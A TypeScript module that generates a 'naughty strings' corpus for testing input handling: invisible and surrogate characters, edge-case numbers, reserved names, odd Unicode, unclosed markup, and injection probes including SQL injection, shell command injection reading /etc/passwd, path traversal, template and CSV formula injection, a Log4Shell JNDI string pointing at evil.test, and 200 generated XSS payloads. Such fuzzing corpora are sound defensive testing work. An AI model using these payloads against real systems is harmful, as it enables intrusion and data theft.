/** Texts that have broken programs before, made by what they play on. */

const range = (from: number, to: number): string[] =>
  Array.from({ length: to - from + 1 }, (_, i) => String.fromCodePoint(from + i));

const words = (list: string): string[] => list.trim().split(/\s+/);

const crossed = (heads: readonly string[], tails: readonly string[]): string[] =>
  heads.flatMap((head) => tails.map((tail) => head + tail));

/** Controls, spaces, joiners, directions and noncharacters, each within a word. */
const unseen = [
  ...range(0x00, 0x20),
  ...range(0x7f, 0xa0),
  ...range(0x2000, 0x200f),
  ...range(0x2028, 0x202f),
  ...range(0x2060, 0x206f),
  ...range(0xfff0, 0xffff),
  ...'\u00ad\u034f\u061c\u115f\u180e\u3164\ufeff',
].map((char) => `甲${char}乙`);

const halves = ['\ud800', 'a\udc00', '\udc00\ud800', '\ud83d', '\u{10ffff}'];

const numbers = words(`0 -0 00 +1 1. .5 1e309 -1e309 1e-400 0x0 0b1 0o7 1_000 1,000 1.000,00 １２３
  ½ ² ٣ ४ 𝟙 NaN Infinity -Infinity 2147483648 -2147483649 4294967296 9007199254740993
  9223372036854775808 18446744073709551616 1.7976931348623157e309 0.1+0.2 1/0 --1 ¥1 ￥１ 1元`);

const names =
  words(`undefined null nil None true false NULL (null) [object 对象] constructor __proto__
  toString hasOwnProperty prototype this then CON PRN AUX NUL COM1 LPT1 . .. ~ * ? / \\ // \\\\ :
  ;`);

const orders = [
  ...crossed(
    ["'", '"', '`', "')", '"))'],
    [' OR 1=1 --', '; DROP TABLE matter; --', ' UNION SELECT'],
  ),
  ...crossed(['; ', '| ', '&& ', '$(', '`'], ['id', 'touch /tmp/x)', 'cat /etc/passwd`']),
  ...crossed(
    ['../', '..\\', '%2e%2e%2f', 'file:///', '\\\\host\\'],
    ['etc/passwd', 'windows\\win.ini'],
  ),
  ...crossed(
    ['{{', '${', '#{', '<%=', '[[', '{%'],
    ['7*7}}', 'constructor.constructor("alert(1)")()}'],
  ),
  ...crossed(['=', '+', '-', '@', '\t=', '＝'], ['1+1', "cmd|' /C calc'!A0", 'HYPERLINK("a","b")']),
  ...crossed(['%', '%n%', '{0}', '$1'], ['s', 'x', '00', '$&']),
  '*)(uid=*))(|(uid=*',
  "' or count(//*)=1 or '",
  '${jndi:ldap://evil.test/a}',
  '\\input{/etc/passwd}',
  'BEGIN:VCARD',
  'a\r\nSet-Cookie: a=b',
];

/** Pieces of markup that open and do not close, or close what they did not open. */
const markup = crossed(
  [
    '<',
    '</',
    '<!--',
    '-->',
    '<![CDATA[',
    ']]>',
    '<!DOCTYPE ',
    '<?xml ',
    '&lt;',
    '&#60;',
    '&#x3c;',
    '<a href="',
    '<svg><',
    '<math><',
    '<b style="',
    '<input value="',
    '\u003c',
    '＜',
  ],
  [
    '',
    'b',
    'main>',
    'title>',
    'style>',
    'script>',
    'textarea>',
    'table><tr>',
    'plaintext>',
    '"\'>',
  ],
);

const tongues = words(`Z̮̞̠͙͔ͅḀ̗̞͈̻̗Ḷ͙͎̯̹̞͓G̻O̭̗̮ ﬀ İ ı ß ǅ é e\u0301 Å Å ㍿ ﷽ 張三 張叁 🀄 👩‍👩‍👧‍👦
  🏳️‍🌈 👍🏿 🇨🇳 𠜎𠜱 ｱ ア゙
  مرحبا שלום ภาษา हिन्दी ᚠᛇ ̈a ﹏ 〇 ℌ ﬁ Ω K ªº ‮abc ⁦a⁩ ꧁꧂ 𝕬 ʇxǝʇ 。．，、 “”‘’ —…`);

export const naughtyTexts: readonly string[] = [
  ...unseen,
  ...halves,
  ...numbers,
  ...names,
  ...orders,
  ...markup,
  ...tongues,
  ' ',
  '　',
  'a'.repeat(500),
  '长'.repeat(499),
  '👍'.repeat(250),
];

const tags = ['script', 'img', 'svg', 'iframe', 'body', 'a', 'math', 'video', 'details', 'style'];
const handlers = ['onerror', 'onload', 'onclick', 'ontoggle', 'onfocus'];

/** 200 payloads: every tag with every handler, quoted in four ways. */
export const scriptTexts: readonly string[] = tags.flatMap((tag) =>
  handlers.flatMap((on) => [
    `<${tag} ${on}=alert(1)>`,
    `"><${tag} src=x ${on}="alert(1)">`,
    `'><${tag.toUpperCase()}/${on}='alert(1)'//`,
    `javascript:/*--></${tag}>*/${on}=alert(1)`,
  ]),
);

/** What runs wherever it is not escaped: shows that a test would see it. */
export const running = '<img src=x onerror="alert(1)"><script>alert(1)</script>';
